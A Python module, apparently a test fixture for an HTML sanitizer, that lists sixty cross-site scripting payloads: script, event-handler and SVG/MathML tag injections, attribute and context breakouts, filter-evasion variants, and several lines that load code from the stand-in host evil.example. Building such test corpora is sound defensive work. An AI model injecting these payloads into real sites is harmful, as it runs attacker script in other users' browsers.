"""Sixty texts that run a script wherever a page takes one of them for markup, a style, an address or code.

Each calls ``alert(1)`` or leaves an element or attribute ``data-ran`` behind.
"""

from __future__ import annotations

_TAGS = [
    "<script>alert(1)</script>",
    "<script data-ran src=//evil.example/x.js></script>",
    "<SCRIPT data-ran>alert(1)</SCRIPT>",
    "<scr<script>ipt data-ran>alert(1)</scr</script>ipt>",
    "<script data-ran/x>alert(1)</script>",
    "<script\tdata-ran>alert(1)</script>",
    "<script data-ran>alert`1`</script>",
    "<script type=module data-ran>alert(1)</script>",
    "<img data-ran src=x onerror=alert(1)>",
    "<img data-ran src=x onerror='alert(1)'//",
    "<IMG data-ran SRC=x OnErRoR=alert(1)>",
    "<img/data-ran/src=x/onerror=alert(1)>",
    "<img data-ran src=`x` onerror=alert(1)>",
    "<img data-ran src=x:alert(1) onerror=eval(src)>",
    "<svg data-ran onload=alert(1)>",
    "<svg data-ran><script>alert(1)</script></svg>",
    "<svg data-ran><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg data-ran><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg data-ran><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg data-ran><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math data-ran><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img data-ran src=x onerror=alert(1)>",
    "<body data-ran onload=alert(1)>",
    "<body data-ran onpageshow=alert(1)>",
    "<iframe data-ran src=javascript:alert(1)>",
    "<iframe data-ran srcdoc='<script>parent.alert(1)</script>'>",
    "<object data-ran data=javascript:alert(1)>",
    "<embed data-ran src=javascript:alert(1)>",
    "<video data-ran><source onerror=alert(1)>",
    "<audio data-ran src=x onerror=alert(1)>",
    "<details data-ran open ontoggle=alert(1)>",
    "<input data-ran autofocus onfocus=alert(1)>",
    "<select data-ran autofocus onfocus=alert(1)>",
    "<textarea data-ran autofocus onfocus=alert(1)>",
    "<button data-ran popovertarget=x onclick=alert(1)>x</button>",
    "<marquee data-ran onstart=alert(1)>",
    "<style data-ran>@import 'javascript:alert(1)';</style>",
    "<style data-ran>*{background:url(//evil.example/x)}</style>",
    "<link data-ran rel=stylesheet href=//evil.example/x.css>",
    "<base data-ran href=//evil.example/>",
    "<meta data-ran http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form data-ran action=javascript:alert(1)><input type=submit>",
    "<template data-ran><script>alert(1)</script></template>",
]
_OUT_OF_WHERE_IT_STANDS = [
    '" data-ran onmouseover=alert(1) x="',
    "' data-ran onfocus=alert(1) autofocus x='",
    '"><img data-ran src=x onerror=alert(1)>',
    "'><svg data-ran onload=alert(1)>",
    "</title><script data-ran>alert(1)</script>",
    "</textarea><img data-ran src=x onerror=alert(1)>",
    "</script><script data-ran>alert(1)</script>",
    "--><img data-ran src=x onerror=alert(1)>",
    "]]><img data-ran src=x onerror=alert(1)>",
    '\\");alert(1);//',
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include 'x' %}{{ 7|add:7 }}",
]
_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://x.example",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]

SCRIPTS = (*_TAGS, *_OUT_OF_WHERE_IT_STANDS, *_ADDRESSES)
